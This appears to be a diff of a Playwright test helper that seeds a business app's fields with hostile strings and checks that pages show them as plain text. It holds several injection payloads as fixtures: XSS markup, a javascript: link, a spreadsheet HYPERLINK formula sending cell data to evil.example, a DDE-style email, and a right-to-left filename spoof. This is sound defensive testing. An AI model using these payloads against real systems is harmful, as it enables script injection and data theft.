@@ -1,5 +1,5 @@
-// A business in which every text is an attack, and checks that no page is affected.
-// Every test watches `window.__pwned` (see breaches.ts). Only a hostile text could create an `x-pwned` element.
+// A business with an attack in every text, and checks that no page is affected. Every test watches
+// `window.__pwned` (see breaches.ts). Only a hostile text could create an `x-pwned` element.
 import { expect, type Page } from '@playwright/test';
 import { type Api, type Client, type Job, type JobCard } from './api.ts';
 import type { Day } from './days.ts';
@@ -9,7 +9,10 @@ export const hostileWeek: Day = '2031-01-06';
 
 const MARKUP = `"'><img src=x onerror=__pwned=1><script>__pwned=2</script><x-pwned>{{7*7}}`;
 
-/** A hostile text for a field of at least 100 characters. Each field has its own, so that a test can tell them apart. */
+/**
+ * A hostile text for a field of at least 100 characters. It differs for each field, so that a test
+ * can tell the fields apart.
+ */
 export function markup(field: string): string {
   return field + MARKUP;
 }
@@ -24,14 +27,17 @@ export const kinds = {
   link: 'javascript:__pwned=5//0412345678',
   /** Runs in the spreadsheet that opens a CSV. */
   formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
-  /** Reads as another text, and reverses the text after it. */
+  /** Looks like another text, and reverses the text after it. */
   turned: 'Invoice \u202Egpj.exe',
   /** Has no space at which a line could break. */
   word: 'W'.repeat(200),
 } as const;
 type Kind = keyof typeof kinds;
 
-/** Valid mail addresses that are a formula for a spreadsheet, or hold more than an address for a mail program. */
+/**
+ * Valid mail addresses. A spreadsheet could read them as a formula, and a mail program as more than
+ * an address.
+ */
 export const hostileEmail = (who: string): string => `=${who}|'calc'!a1?bcc=x&body=y@evil.example`;
 
 export interface HostileBusiness {
@@ -107,7 +113,10 @@ async function storeOthers(api: Api): Promise<Record<Kind, Job>> {
   return Object.fromEntries(await Promise.all(stored)) as Record<Kind, Job>;
 }
 
-/** Stores hostile texts in every field that takes one, as the administrator `api` and the worker could. */
+/**
+ * Stores hostile texts in every field that accepts text, as the administrator `api` and the worker
+ * could.
+ */
 export async function storeHostile(api: Api, worker: Api): Promise<HostileBusiness> {
   await storeSettings(api);
   await storePeople(api);
@@ -157,7 +166,10 @@ function everythingSaid(): string {
   return [document.body.textContent, ...fields.map(({ value }) => value), ...labels].join('\n');
 }
 
-/** Everything on a page that only a hostile text can have created, or that could run one. */
+/**
+ * Every element or attribute of a page that only a hostile text can have created, or that could
+ * execute one.
+ */
 function madeByText(): string[] {
   const made: string[] = [];
   const strange =
@@ -191,7 +203,10 @@ function madeByText(): string[] {
   return made;
 }
 
-/** How a page scrolls sideways, and its last element that is too wide; empty if it doesn't. */
+/**
+ * By how much a page scrolls sideways, and its last element that is too wide. Empty if it doesn't
+ * scroll.
+ */
 function sidewaysScroll(): string {
   const { scrollWidth, clientWidth } = document.documentElement;
   // A printed page has another width than the screen.
@@ -201,7 +216,7 @@ function sidewaysScroll(): string {
   return `${scrollWidth} of ${clientWidth} px, ${widest?.outerHTML.slice(0, 200)}`;
 }
 
-/** Expects that the page shows all `texts` unchanged, and that they created nothing on it. */
+/** Expects that the page shows all `texts` unchanged, and that they created no element on it. */
 export async function expectPlain(page: Page, ...texts: string[]): Promise<void> {
   const missing = async (): Promise<string[]> => {
     const said = await page.evaluate(everythingSaid);
@@ -209,6 +224,6 @@ export async function expectPlain(page: Page, ...texts: string[]): Promise<void>
   };
   await expect.poll(missing, 'shown as text').toEqual([]);
   expect(await page.evaluate(madeByText), 'the texts create no element').toEqual([]);
-  // After a change of the window's size, some parts get their new layout in a later render.
+  // After the window changes its size, some parts get their new layout in a later render.
   await expect.poll(() => page.evaluate(sidewaysScroll), 'scrolls sideways').toBe('');
 }
